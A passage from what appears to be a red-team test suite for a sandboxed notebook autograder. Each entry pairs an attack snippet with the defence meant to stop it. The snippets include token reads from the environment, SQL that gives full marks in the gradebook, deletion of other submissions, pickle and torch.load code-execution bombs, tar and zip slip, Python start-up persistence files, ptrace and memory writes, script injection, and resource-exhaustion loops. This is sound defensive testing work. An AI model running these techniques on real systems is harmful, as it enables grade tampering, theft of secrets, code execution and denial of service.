        'import os\nprint(os.environ.get("JUPYTERHUB_API_TOKEN"))',
        "the fork's environment is made, not inherited",
        shown="kernel",
    ),
    steal(
        "read_descriptors",
        "reads from every descriptor that might have been left open",
        """
          import os
          for number in range(3, 300):
              try:
                  print(os.pread(number, 999, 0))
              except OSError:
                  pass
          """,
        "only the pipe stays open",
        shown=lambda folder: _inherits(folder),
    ),
    steal(
        "judge_source",
        "reads the judge's source by the paths in its own modules",
        """
          import sys
          from pathlib import Path
          here = Path(sys.modules["grader.probe"].__file__).parent
          if "def judge(" in (here / "judge.py").read_text():
              print("went" + " through")
          """,
        "Landlock: the package cannot be read",
        proof="through",
    ),
    steal(
        "questions_source",
        "imports a unit's questions by file",
        """
          import importlib.util, sys
          from pathlib import Path
          path = Path(sys.modules["grader.probe"].__file__).parent / "demo/course/questions.py"
          if importlib.util.spec_from_file_location("units", path).loader.get_data(str(path)):
              print("went" + " through")
          """,
        "Landlock: the package cannot be read",
        proof="through",
    ),
    steal(
        "import_judge",
        "imports the judge",
        """
          import sys
          sys.modules["grader"].__path__ = [sys.modules["grader.probe"].__file__.rpartition("/")[0]]
          import grader.judge
          print("went" + " through")
          """,
        "Landlock: the package cannot be read",
        proof="through",
    ),
    steal(
        "walk_memory",
        "looks in gc, sys.modules and all frames for whatever knows an answer",
        """
          import gc, sys
          for thing in gc.get_objects():
              kind = type(thing)
              if kind.__name__ in ("Question", "Problem", "Verdict") and kind.__module__.startswith("grader"):
                  print("went" + " through")
                  break
          for name in list(sys.modules):
              if name.startswith("grader") and name.split(".")[-1] in ("judge", "question", "quantities", "mistakes", "words"):
                  print("went" + " through")
                  break
          """,
        "the fork's memory holds the probe and the maps only",
        proof="through",
        shown="kernel",
    ),
    steal(
        "connect",
        "connects to a server on this machine",
        'import socket\ns = socket.create_connection(("127.0.0.1", PORT), 5)\nprint(s.recv(99))',
        "seccomp: no sockets",
    ),
    steal(
        "connect_abstract",
        "connects to an abstract Unix socket, which is no file",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(ABSTRACT)\nprint(s.recv(99))",
        "seccomp: no sockets",
    ),
    steal(
        "connect_unix",
        "connects to a Unix socket",
        'import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(f"{CANARY}/home/agent")\nprint(s.recv(99))',
        "seccomp: no sockets",
    ),
    steal(
        "system_v_memory",
        "attaches a shared memory segment of another process",
        """
          import ctypes
          libc = ctypes.CDLL(None, use_errno=True)
          libc.shmat.restype = ctypes.c_void_p
          where = libc.shmat(SEGMENT, None, 0o10000)
          if where in (None, 2**64 - 1):
              raise OSError(ctypes.get_errno())
          print(ctypes.string_at(where))
          """,
        "seccomp: no System V memory",
    ),
    steal(
        "watch_folder",
        "asks the kernel to tell when the gradebook is touched",
        """
          import ctypes
          libc = ctypes.CDLL(None, use_errno=True)
          watch = libc.inotify_add_watch(libc.inotify_init1(0), f"{CANARY}/gradebook.db".encode(), 0xFFF)
          if watch < 0:
              raise OSError(ctypes.get_errno())
          print("went" + " through")
          """,
        "seccomp: no inotify",
        proof="through",
    ),
    steal(
        "hidden_inputs_shown",
        "an answer prints its hidden inputs into the graded cell's feedback",
        "",
        "a graded cell's own outputs are replaced",
        change=answer(
            "def one_row(f, x, i):\n    print('went' + ' through', x)\n    y = f(x)\n    return torch.autograd.grad(y[i], x)[0]",
            "one_row",
        ),
        proof="through_in_graded",
        shown="kernel",
    ),
]


def _inherits(folder: Path) -> bool:
    """Whether a child of a plain fork can read what its parent has open."""
    import os

    path = folder / "open"
    path.write_text("token")
    with path.open() as file:
        out, into = os.pipe()
        child = os.fork()
        if child == 0:
            os.write(into, os.pread(file.fileno(), 99, 0))
            os._exit(0)
        os.waitpid(child, 0)
        return os.read(out, 99) == b"token"


# --- Damage


def damage(
    name: str, does: str, code: str, defence: str = "Landlock: nothing outside can be written", **more: Any
) -> Attack:
    return Attack(name, "damage", does, defence, **{"change": tried(code), "proof": "changed", **more})


def adopted(module: str) -> Attack:
    leaves = f'open("{module}.py", "w").write("print(\'taken\')")'
    return damage(
        f"adopted_{module}",
        f"puts a {module}.py beside the notebook, for whoever imports {module} there next",
        "",
        "a work folder of its own, removed afterwards",
        change=own(leaves),
        proof="left_behind",
        shown=lambda folder: (
            naive.script(leaves, folder)[0] == 0 and "taken" in naive.script(f"import {module}", folder)[1]
        ),
    )


_BOMB = (
    "import os, torch\nclass Bomb:\n    def __reduce__(self):\n        return os.unlink, (f'{CANARY}/gradebook.db',)\n"
)
_TORCH_LOAD = 'torch.load("b", weights_only=False)'
_SHADOW = """
import sys
open("numpy.py", "w").write("open(PATH, 'w').close()".replace("PATH", repr(f"{CANARY}/gradebook.db")))
sys.modules.pop("numpy", None)
sys.path.insert(0, ".")
import numpy
"""
_LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"

_DAMAGES = [
    damage(
        "update_gradebook",
        "gives itself full marks by SQL",
        'import sqlite3\nwith sqlite3.connect(f"{CANARY}/gradebook.db") as db:\n    db.execute("update grades set score = 24")',
    ),
    damage("overwrite_sibling", "empties another submission", 'open(f"{CANARY}/submitted/ada/05/05.txt", "w").close()'),
    damage("append_to_solutions", "appends to the solutions", 'open(f"{CANARY}/solutions/05/05.txt", "a").write("1")'),
    damage("delete", "deletes the gradebook", 'import os\nos.unlink(f"{CANARY}/gradebook.db")'),
    damage("rename", "renames the gradebook", 'import os\nos.rename(f"{CANARY}/gradebook.db", f"{CANARY}/gone")'),
    damage(
        "truncate",
        "truncates the gradebook by its path",
        'import os\nos.truncate(f"{CANARY}/gradebook.db", 0)',
        "seccomp and Landlock: no truncate by path",
    ),
    damage(
        "change_mode",
        "makes the gradebook writable by all",
        'import os\nos.chmod(f"{CANARY}/gradebook.db", 0o666)',
        "seccomp: no chmod",
    ),
    damage(
        "change_times",
        "sets the time of another submission, which makes it late",
        'import os\nos.utime(f"{CANARY}/submitted/ada/05/05.txt", (4e9, 4e9))',
        "seccomp: no utimensat",
    ),
    damage(
        "change_attributes",
        "hangs an attribute on another's file",
        'import os\nos.setxattr(f"{CANARY}/submitted/ada/05/05.txt", "user.x", b"1")',
        "seccomp: no setxattr",
    ),
    damage(
        "change_attributes_by_number",
        "hangs an attribute on another's file by a system call so young that the C library does not know it",
        """
           import ctypes, errno, os
           class Arguments(ctypes.Structure):
               _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]
           value = ctypes.create_string_buffer(b"1")
           arguments = Arguments(ctypes.addressof(value), 1, 0)
           path = f"{CANARY}/submitted/ada/05/05.txt"
           done = ctypes.CDLL(None, use_errno=True).syscall(
               463, -100, path.encode(), 0, b"user.x", ctypes.byref(arguments), ctypes.c_size_t(16))
           if done and LONG < 100 and ctypes.get_errno() == errno.ENOSYS:  # an old kernel; the old call shows the same
               os.setxattr(path, "user.x", b"1")
           """,
        "seccomp: no call that is younger than its table",
    ),
    damage(
        "change_flags",
        "sets flags of a file that is open for reading only",
        """
           import ctypes, errno
           libc = ctypes.CDLL(None, use_errno=True)
           open("mine", "w").close()
           flags = ctypes.c_long(0x40)
           with open("mine") as file:
               libc.ioctl(file.fileno(), ctypes.c_ulong(0x40086602), ctypes.byref(flags))
           if ctypes.get_errno() != errno.EPERM:  # some file systems have no flags
               print("went" + " through")
           """,
        "seccomp: no ioctl that changes a file",
        proof="through",
    ),
    damage("make_folder", "makes a folder outside", 'import os\nos.mkdir(f"{CANARY}/new")'),
    damage(
        "write_through_symlink",
        "writes through a symbolic link in its work folder",
        'import os\nos.symlink(f"{CANARY}/gradebook.db", "link")\nopen("link", "w").close()',
        "seccomp: no links; Landlock looks at where a path leads",
    ),
    damage(
        "write_through_hard_link",
        "writes through a hard link in its work folder",
        'import os\nos.link(f"{CANARY}/gradebook.db", "link")\nopen("link", "w").close()',
        "seccomp: no links; Landlock",
    ),
    damage(
        "tar_slip",
        "unpacks an archive whose members climb out of the work folder",
        """
           import io, os, tarfile
           data = io.BytesIO()
           with tarfile.open(fileobj=data, mode="w") as tar:
               member = tarfile.TarInfo(os.path.relpath(f"{CANARY}/slipped"))
               member.size = 1
               tar.addfile(member, io.BytesIO(b"x"))
           data.seek(0)
           tar = tarfile.open(fileobj=data)
           tar.extraction_filter = getattr(tarfile, "fully_trusted_filter", None)
           tar.extractall(".", numeric_owner=True)
           """,
    ),
    damage(
        "zip_slip",
        "unpacks an archive as those do who join its names to a folder's",
        """
           import io, os, zipfile
           data = io.BytesIO()
           with zipfile.ZipFile(data, "w") as archive:
               archive.writestr(os.path.relpath(f"{CANARY}/slipped"), b"x")
           archive = zipfile.ZipFile(data)
           for name in archive.namelist():
               with open(os.path.join(".", name), "wb") as file:
                   file.write(archive.read(name))
           """,
    ),
    damage(
        "fifo",
        "puts a named pipe into its work folder, for whoever opens what it left",
        'import os\nos.mkfifo("pipe")\nprint("went" + " through")',
        "seccomp: no mknod",
        proof="through",
    ),
    damage(
        "sitecustomize",
        "writes a module that Python imports at every start",
        'open(f"{CANARY}/site-packages/sitecustomize.py", "w").write("print(1)")',
    ),
    damage(
        "pth_file",
        "writes a .pth file that Python runs at every start",
        'open(f"{CANARY}/site-packages/evil.pth", "w").write("import os")',
    ),
    damage(
        "ipython_startup",
        "writes a start-up file for the instructor's IPython",
        'open(f"{CANARY}/home/.ipython/profile_default/startup/00.py", "w").write("1")',
    ),
    damage("pyc_cache", "replaces a compiled module", 'open(f"{CANARY}/code/__pycache__/stolen.pyc", "wb").write(b"")'),
    damage(
        "real_site_packages",
        "tries the interpreter's own libraries, where it may write when it runs as their owner",
        """
           import os, numpy
           path = os.path.dirname(numpy.__file__) + "/redteam"
           os.mkdir(path)
           os.rmdir(path)
           print("went" + " through")
           """,
        proof="through_or_not_the_owner",
    ),
    damage(
        "writefile_magic",
        "%%writefile outside of the work folder",
        'get_ipython().run_cell_magic("writefile", f"{CANARY}/gradebook.db", "gone")',
    ),
    damage(
        "shell_magic",
        "%%script runs a shell that writes",
        'get_ipython().run_cell_magic("script", "/bin/sh", f"echo gone > {CANARY}/gradebook.db")',
        "seccomp: no other program",
    ),
    damage("shared_memory_file", "leaves a file in shared memory", 'open(SHM, "w").write("x" * 999)'),
    damage(
        "system_v_remove",
        "removes a shared memory segment of another process",
        _LIBC + "if libc.shmctl(SEGMENT, 0, None):\n    raise OSError(ctypes.get_errno())",
        "seccomp: no shmctl",
    ),
    damage("kill", "kills another process of the same user", "import os\nos.kill(VICTIM, 9)", "seccomp: no signals"),
    damage(
        "stop", "stops another process", "import os, signal\nos.kill(VICTIM, signal.SIGSTOP)", "seccomp: no signals"
    ),
    damage(
        "kill_by_descriptor",
        "lets a descriptor send the signal: F_SETOWN, F_SETSIG, O_ASYNC",
        """
           import fcntl, os
           end, start = os.pipe()
           fcntl.fcntl(end, fcntl.F_SETOWN, VICTIM)
           fcntl.fcntl(end, 10, 9)
           fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC)
           os.write(start, b"x")  # something comes, and with it the signal
           """,
        "seccomp: no F_SETOWN",
    ),
    damage(
        "ptrace",
        "attaches to another process as a debugger, which stops it",
        _LIBC
        + "if libc.ptrace(16, VICTIM, 0, 0):\n    raise OSError(ctypes.get_errno())\nimport time\ntime.sleep(0.2)\n"
        "libc.ptrace(7, VICTIM, 0, 9)\ntime.sleep(0.1)",
        "seccomp: no ptrace",
    ),
    damage(
        "write_memory",
        "writes into another process's memory",
        'with open(f"/proc/{VICTIM}/mem", "r+b", buffering=0) as memory:\n    memory.seek(VICTIM_ADDRESS)\n    memory.write(b"gone")',
        "Landlock: no /proc",
    ),
    damage(
        "affinity",
        "ties another process to one core",
        "import os\nos.sched_setaffinity(VICTIM, {min(os.sched_getaffinity(VICTIM))})",
        "seccomp: no sched_setaffinity",
    ),
    damage(
        "priority",
        "makes another process slow",
        "import os\nos.setpriority(os.PRIO_PROCESS, VICTIM, 19)",
        "seccomp: no setpriority",
    ),
    damage(
        "limit_another",
        "takes another process's descriptors away by prlimit",
        "import resource\nresource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (0, 0))",
        "seccomp: no prlimit on others",
    ),
    adopted("torch"),
    adopted("numpy"),
    # Its own answers are lost with the NumPy that it threw out.
    damage("shadowed_numpy", "imports a numpy.py of its own, which empties the gradebook", _SHADOW, exact=False),
    damage("torch_load", "has torch.load run what it saved before", _BOMB + 'torch.save(Bomb(), "b")\n' + _TORCH_LOAD),
    damage(
        "numpy_load",
        "has NumPy unpickle what it saved before",
        _BOMB
        + 'import numpy\nnumpy.save("b.npy", [Bomb()], allow_pickle=True)\nnumpy.load("b.npy", allow_pickle=True)',
    ),
    damage(
        "left_bomb",
        "leaves a file of tensors that runs code when torch loads it",
        "",
        "a work folder of its own, removed afterwards",
        change=own(_BOMB + 'torch.save(Bomb(), "answers.pt")'),
        proof="left_behind",
        shown=lambda folder: _loads(folder),
    ),
    damage(
        "pickle",
        "hands back an object that runs code when it is unpickled",
        "",
        "only plain arrays cross the boundary; nothing is unpickled",
        change=by_call(
            "class Bomb:\n    def __reduce__(self):\n        import os\n"
            "        return os.unlink, (f'{CANARY}/gradebook.db',)\nx.bomb = Bomb()"
        ),
        shown=lambda folder: _unpickles(folder),
    ),
    damage(
        "patched_grad",
        "replaces torch.autograd.grad for whoever comes next in the process",
        "",
        "every submission is a fork of its own",
        change=own(
            "real = torch.autograd.grad\ntorch.autograd.grad = lambda *a, **k: tuple(2 * g for g in real(*a, **k))",
            "05-transfer",
        ),
        proof="neighbour",
        shown="neighbour",
        exact=False,
    ),
    damage(
        "patched_default_dtype",
        "sets torch's default dtype and grad mode",
        "",
        "every submission is a fork of its own",
        change=own("torch.Tensor.detach = lambda self: self + 1\ntorch.stack = lambda *a, **k: None", "05-transfer"),
        proof="neighbour",
        shown="neighbour",
        exact=False,
    ),
    damage(
        "patched_builtins",
        "replaces a builtin",
        "",
        "every submission is a fork of its own",
        change=own(
            "import builtins\nreal = len\nbuiltins.len = lambda thing: real(thing) + (type(thing).__name__ == 'Tensor')",
            "05-transfer",
        ),
        proof="neighbour",
        shown="neighbour",
        exact=False,
    ),
    damage(
        "patched_shell",
        "a cell transformer that stays",
        "",
        "every submission is a fork of its own",
        change=own(
            "get_ipython().input_transformers_cleanup.append(\n    lambda lines: [line.replace('weight = v', 'weight = -v') for line in lines])",
            "05-transfer",
        ),
        proof="neighbour",
        shown="neighbour",
        exact=False,
    ),
    damage(
        "html",
        "displays a script",
        "",
        "of what is displayed only text and PNG are kept",
        change=own(
            "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<script>alert(1)</script>'))\n"
            "display(Javascript('alert(1)'))\nHTML('<img src=x onerror=alert(1)>')"
        ),
        proof="active",
        shown="kernel",
    ),
    damage(
        "svg",
        "displays an SVG with a script",
        "",
        "of what is displayed only text and PNG are kept",
        change=own(
            "from IPython.display import SVG, display\n"
            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>'))"
        ),
        proof="active",
        shown="kernel",
    ),
    damage(
        "png_that_is_none",
        "displays HTML that says that it is a PNG",
        "",
        "a PNG is looked at before it is kept",
        change=own(
            "import base64\nfrom IPython.display import display\n"
            "display({'image/png': base64.b64encode(b'<script>alert(1)</script>').decode() + '\"><script>'}, raw=True)"
        ),
        proof="active",
        shown="kernel",
    ),
    damage(
        "ansi",
        "prints terminal codes that rewrite what an instructor's terminal shows",
        "",
        "control characters are taken out",
        change=own(r"print('\x1b[2J\x1b]0;title\x07\x1b[31mred\u202egnorw\x08')"),
        proof="controls",
        shown="kernel",
    ),
    damage(
        "error_html",
        "raises an error whose text is a script",
        "",
        "the card escapes what it quotes",
        change=answer("def one_row(f, x, i):\n    raise ValueError('<script>alert(1)</script>')", "one_row"),
        honest={"05-one_row": 0.0},
        proof="active",
        shown="unescaped",
    ),
    damage(
        "type_name_html",
        "returns an object whose class is called like a script",
        "",
        "the card escapes what it quotes",
        change=answer("def one_row(f, x, i):\n    return type('<script>alert(1)</script>', (), {})()", "one_row"),
        honest={"05-one_row": 0.0},
        proof="active",
        shown="unescaped",
    ),
    damage(
        "half_a_character",
        "prints half of a surrogate pair, which no file can hold",
        "",
        "what cannot be written is taken out",
        change=own(r"print('\ud800'); print('\udfff' * 9)"),
        proof="unwritable",
        shown="kernel",
    ),
    damage(
        "half_a_character_in_error",
        "raises an error with half of a surrogate pair in its text",
        "",
        "what cannot be written is taken out",
        change=answer("def one_row(f, x, i):\n    raise ValueError('\\ud800')", "one_row"),
        honest={"05-one_row": 0.0},
        proof="unwritable",
        shown="unfiltered",
    ),
]


class _Bomb:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> Any:
        import os

        return os.unlink, (self.path,)


def _goes_off(folder: Path, load: Callable[[_Bomb], object]) -> bool:
    path = folder / "bombed"
    path.write_text("")
    load(_Bomb(str(path)))
    return not path.exists()


def _unpickles(folder: Path) -> bool:
    import pickle

    return _goes_off(folder, lambda bomb: pickle.loads(pickle.dumps(bomb)))


def _loads(folder: Path) -> bool:
    import torch

    def load(bomb: _Bomb) -> None:
        torch.save(bomb, folder / "answers.pt")
        torch.load(folder / "answers.pt", weights_only=False)

    return _goes_off(folder, load)


# --- Exhaust

AFTER_MIDDLE = tuple(id for id in POINTS if id not in BEFORE_MIDDLE)
SHORT = {"cell_seconds": 1.0, "notebook_seconds": 30.0}  # of a fork's own time; honest cells need a fiftieth of it


def exhaust(name: str, does: str, code: str, defence: str, **more: Any) -> Attack:
    """In a cell of its own.  Without its limit it prints "went through", after LONG seconds where it is endless."""
    first, later, _ = code.partition(IN_THE_NEXT_CELL)
    whole = both(own(clean(first) + "\nwhole = True"), own(f"if 'whole' in globals():\n    {GOES_THROUGH}"))
    cells = whole if later else own(code)
    return Attack(name, "exhaust", does, defence, **{"change": cells, "proof": "through", "exact": False, **more})


def endless(name: str, does: str, code: str, **more: Any) -> Attack:
    more = {"limits": SHORT, **more}
    return exhaust(
        name,
        does,
        "import time\nend = time.monotonic() + LONG\n" + clean(code) + "\n" + GOES_THROUGH,
        "wall time of a cell",
        **more,
    )


_EXHAUSTS = [
    endless("endless_loop", "a loop that never ends", "while time.monotonic() < end:\n    pass", exact=True),
    endless(
        "endless_and_deaf",
        "a loop that ignores the interrupt",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile time.monotonic() < end:\n    pass",
    ),
    endless(
        "endless_and_masked",
        "a loop with all signals blocked",
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\nwhile time.monotonic() < end:\n    pass",
    ),
    endless(
        "endless_and_catching",
        "a loop that catches the interrupt and goes on",
        "while time.monotonic() < end:\n    try:\n        while time.monotonic() < end:\n            pass\n"
        "    except KeyboardInterrupt:\n        pass",
    ),
    endless(
        "endless_in_c",
        "a loop in C that no signal interrupts",
        "numbers = iter(int, 1)\nfrom collections import deque\nimport itertools\n"
        "deque(itertools.takewhile(lambda _: False, ()), 0)\n"
        "deque(itertools.islice(numbers, None if LONG > 100 else 10**7), 0)",
    ),
    endless(
        "endless_regex",
        "a regular expression that takes ages",
        'import re\nre.match(r"(a+)+$", "a" * (60 if LONG > 100 else 22) + "b")',
    ),
    endless("endless_integer", "a power of integers that takes ages", "_ = 3 ** (10**9 if LONG > 100 else 10**6)"),
    endless("endless_sleep", "sleeps", "time.sleep(LONG)", exact=True),
    endless(
        "endless_lock",
        "waits for a lock that nobody gives back",
        "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire(timeout=min(LONG, threading.TIMEOUT_MAX))",
        exact=True,
    ),
    endless(
        "endless_repr",
        "an object whose repr never ends",
        "class Long:\n    def __repr__(self):\n        while time.monotonic() < end:\n            pass\n        return ''\n"
        "repr(Long())",
        exact=True,
    ),
    exhaust(
        "endless_del",
        "an object that never lets itself be deleted",
        """
            import time
            end = time.monotonic() + LONG
            class Stays:
                def __del__(self):
                    while time.monotonic() < end:
                        pass
                    print("went" + " through")
            stays = Stays()
            del stays
            """,
        "wall time of a cell",
        limits=SHORT,
        exact=True,
    ),
    endless(
        "endless_answer",
        "an answer that never returns its value",
        "",
        change=both(
            start("import time\nend = time.monotonic() + LONG"),
            answer(
                "def one_row(f, x, i):\n    while time.monotonic() < end:\n        pass\n    global slow\n    slow = 1\n"
                "    y = f(x)\n    return torch.autograd.grad(y[i], x)[0]",
                "one_row",
            ),
            own("print('went' + ' through' if 'slow' in globals() else '')", "answer-05-ones_sum_the_rows"),
        ),
        honest={"05-one_row": 0.0},
        exact=True,
    ),
    endless(
        "stalled_frame",
        "sends half a frame and waits",
        "",
        change=over_the_pipe(
            "import os, time\npipe().sendall(frame({'check': 'x'})[:5])\ntime.sleep(LONG)\nos._exit(0)"
        ),
        exact=False,
        proof="lasted",
        shown="endless",
    ),
    endless(
        "check_flood",
        "asks to be checked without end",
        "",
        change=over_the_pipe(
            """
            import time
            end = time.monotonic() + LONG
            while time.monotonic() < end:
                pipe().sendall(frame({"check": "x"}))
                receive()
            """
            + GOES_THROUGH
        ),
        exact=False,
        limits={},
        shown="any_length",
    ),
    endless(
        "check_flood_unread",
        "asks to be checked without end and reads no reply, until neither side can write any more",
        "",
        change=over_the_pipe(
            """
            import os
            line = pipe()
            line.settimeout(LONG)
            try:
                while True:
                    line.sendall(frame({"check": "x"}))
            finally:
                os._exit(0)
            """
        ),
        exact=False,
        proof="lasted",
        shown="any_length",
    ),
    exhaust(
        "giant_frame",
        "announces a frame of 4 GiB",
        "",
        "a frame's lengths are checked before it is read",
        change=over_the_pipe("import os, time\npipe().sendall(b'\\xff' * 8)\ntime.sleep(LONG)\nos._exit(0)"),
        proof="lasted",
        shown="any_length",
    ),
    exhaust(
        "deep_frame",
        "sends JSON that is nested a million deep",
        "",
        "what cannot be read ends the run",
        change=over_the_pipe("pipe().sendall(frame(b'[' * 1000000))"),
        proof="died",
        shown="uncaught",
    ),
    exhaust(
        "frame_of_another_kind",
        "sends a cell's end that holds no list",
        "",
        "every part of a message is checked",
        change=over_the_pipe('pipe().sendall(frame({"done": {"a": 1}}))'),
        proof="died",
        shown="unchecked",
    ),
    exhaust(
        "output_of_no_kind",
        "sends an output that is none",
        "",
        "every part of a message is checked",
        change=over_the_pipe('pipe().sendall(frame({"done": [{"output_type": "execute_result", "data": 7}, 3]}))'),
        proof="died",
        shown="unchecked",
    ),
    exhaust(
        "forged_flood",
        "sends 7 MB of output for one cell itself, past the sandbox's own limit",
        "",
        "the trusted side counts again",
        change=over_the_pipe(
            'text = "went" + " through " * 700000\n'
            'pipe().sendall(frame({"done": [{"output_type": "stream", "name": "stdout", "text": text}]}))'
        ),
        shown="believed_generously",
    ),
    exhaust(
        "fork",
        "starts a process that outlives the run",
        "import os, time\nif not os.fork():\n    time.sleep(60)\n    os._exit(0)",
        "seccomp: no fork",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "daemon",
        "starts a daemon in a session of its own",
        "import os, time\n"
        "if not os.fork():\n    os.setsid()\n    if not os.fork():\n        time.sleep(60)\n    os._exit(0)",
        "seccomp: no fork",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "vfork",
        "forks by the system call itself",
        _LIBC + "import time\n"
        "if libc.syscall(57 if __import__('platform').machine() == 'x86_64' else 1079) == 0:\n    time.sleep(60)",
        "seccomp: no fork",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "clone",
        "clones by the system call itself",
        _LIBC + "import time\n"
        "number = {'x86_64': 56, 'aarch64': 220}[__import__('platform').machine()]\n"
        "if libc.syscall(number, 17, 0, 0, 0, 0) == 0:\n    time.sleep(60)",
        "seccomp: clone only for threads",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "program",
        "starts a program in the background",
        "import subprocess, sys\nsubprocess.Popen(['/bin/sleep', '60'], start_new_session=True)",
        "seccomp: no other program",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "pool",
        "starts a pool of processes",
        "import multiprocessing as m, time\n"
        "m.get_context('fork').Process(target=time.sleep, args=(60,), daemon=False).start()",
        "seccomp: no fork",
        proof="alive",
        exact=True,
    ),
    exhaust(
        "threads",
        "starts 300 threads with small stacks",
        """
            import threading, time
            threading.stack_size(65536)
            for _ in range(300):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            """
        + IN_THE_NEXT_CELL,
        "a limit of threads",
    ),
    exhaust(
        "huge_tensor",
        "fills a tensor of 1 GiB",
        "big = torch.ones(2**27, dtype=torch.float64)\n" + GOES_THROUGH,
        "a limit of memory",
        exact=True,
    ),
    exhaust(
        "huge_list",
        "grows a list until memory ends",
        "big = []\nfor _ in range(600):\n    big.append(bytes(2**20) + b'1')\n" + GOES_THROUGH,
        "a limit of memory",
        exact=True,
    ),
    exhaust(
        "huge_answer",
        "an answer of 40 MB",
        "",
        "a value too large to be sent is none",
        change=answer("def one_row(f, x, i):\n    return torch.ones(5_000_000, dtype=torch.float64)", "one_row"),
        honest={"05-one_row": 0.0},
        exact=True,
        proof="unlike",
        shown="unfitted",
    ),
    exhaust(
        "huge_answer_forced",
        "an answer of 40 MB, sent although it is too large",
        "",
        "a frame's lengths are checked before it is read",
        change=both(
            start("import sys\nsys.modules['grader.sandbox.codec']._fitting = lambda value: value"),
            answer("def one_row(f, x, i):\n    return torch.ones(5_000_000, dtype=torch.float64)", "one_row"),
            own(GOES_THROUGH, "answer-05-ones_sum_the_rows"),
        ),
        honest={"05-one_row": 0.0},
        shown="any_length",
    ),
    exhaust(
        "stride_zero_answer",
        "an answer that says it has 10¹⁵ entries and stores one",
        "",
        "an answer is copied within the fork's memory, and its size counts",
        change=answer("def one_row(f, x, i):\n    return torch.ones(1, dtype=torch.float64).expand(10**15)", "one_row"),
        honest={"05-one_row": 0.0},
        exact=True,
        shown=lambda folder: _cannot_be_copied(),
    ),
    exhaust(
        "nested_answer",
        "an answer nested a thousand deep, and wide",
        "",
        "depth and width of an answer are limited",
        change=answer(
            "def one_row(f, x, i):\n    y = x\n    for _ in range(1000):\n        y = [y] * 100\n    return y",
            "one_row",
        ),
        honest={"05-one_row": 0.0},
        exact=True,
        limits=SHORT,
        shown=lambda folder: _recurses(),
    ),
    exhaust(
        "large_file",
        "writes a file of 3 MB",
        'open("large", "wb").write(bytes(3 * 2**20))\n' + GOES_THROUGH,
        "a limit of a file's size",
        limits={"file_size": 2**20},
        exact=True,
    ),
    exhaust(
        "many_files",
        "writes many files that together are too large",
        """
            for k in range(60):
                open(f"part{k}", "wb").write(bytes(2**17))
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size",
        limits={"work_size": 2**22},
    ),
    exhaust(
        "many_empty_files",
        "makes files without end, each of them empty",
        """
            for k in range(3000):
                open(f"empty{k}", "w").close()
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size, in which every entry counts",
        limits={"work_size": 2**22},
    ),
    exhaust(
        "unlinked_files",
        "fills the disk with files that have no name any more",
        """
            import os
            kept = []
            for k in range(16):
                kept.append(open("x", "wb"))
                kept[-1].write(bytes(2**19))
                kept[-1].flush()
                os.unlink("x")
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size, in which open files without a name count",
        limits={"work_size": 2**22},
    ),
    exhaust(
        "hidden_folder",
        "fills a folder that nobody may list",
        """
            import os
            os.mkdir("hidden", 0o300)
            for k in range(60):
                open(f"hidden/part{k}", "wb").write(bytes(2**17))
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size: folders are made readable before they are counted",
        limits={"work_size": 2**22},
    ),
    exhaust(
        "mapped_files",
        "fills the disk with files that neither a name nor a descriptor keeps alive, but a page of memory",
        """
            import ctypes, os, time
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mmap.restype = ctypes.c_void_p
            libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
            for k in range(8):
                with open("x", "wb+") as file:
                    file.write(bytes(2**20))
                    file.flush()
                    os.unlink("x")
                    assert libc.mmap(None, 4096, 1, 1, file.fileno(), 0) not in (None, 2**64 - 1)
            time.sleep(min(LONG, 6))
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size, in which mapped files without a name count",
        limits={"work_size": 2**22, "file_size": 2**21},
    ),
    exhaust(
        "files_on_their_way",
        "fills the disk with files that nothing keeps alive but a message between two sockets of its own",
        """
            import gc, os, socket
            (ours, _) = [t for t in gc.get_objects() if type(t) is socket.socket and t.gettimeout() == 0]
            for k in range(8):
                with open("x", "wb") as file:
                    file.write(bytes(2**20))
                    file.flush()
                    os.unlink("x")
                    socket.send_fds(ours, [b"x"], [file.fileno()])
            """
        + GOES_THROUGH,
        "seccomp: no descriptor is handed on",
        limits={"work_size": 2**22},
        exact=True,
    ),
    exhaust(
        "files_too_deep_to_see",
        "fills the disk below folders whose path is too long to be opened",
        """
            import os
            for _ in range(20):
                os.mkdir("a" * 250)
                os.chdir("a" * 250)
            for k in range(8):
                open(f"part{k}", "wb").write(bytes(2**20))
            """
        + IN_THE_NEXT_CELL,
        "a limit of the work folder's size: too deep a folder counts as too much",
        limits={"work_size": 2**22},
    ),
    exhaust(
        "deep_folders",
        "makes folders 3000 deep, which most ways of removing do not survive",
        """
            import os
            for _ in range(3000):
                os.mkdir("a")
                os.chdir("a")
            """,
        "removal that does not call itself",
        proof="left_behind",
        shown=lambda folder: not _removes_deep(folder),
    ),
    exhaust(
        "locked_folders",
        "makes folders that nobody may enter",
        """
            import os
            os.mkdir("a")
            open("a/b", "w").close()
            os.mkdir("a/c", 0)
            """,
        "removal that sets modes first",
        proof="left_behind",
        exact=True,
        shown=lambda folder: _locked_remains(folder),
    ),
    exhaust(
        "descriptors",
        "opens a thousand files",
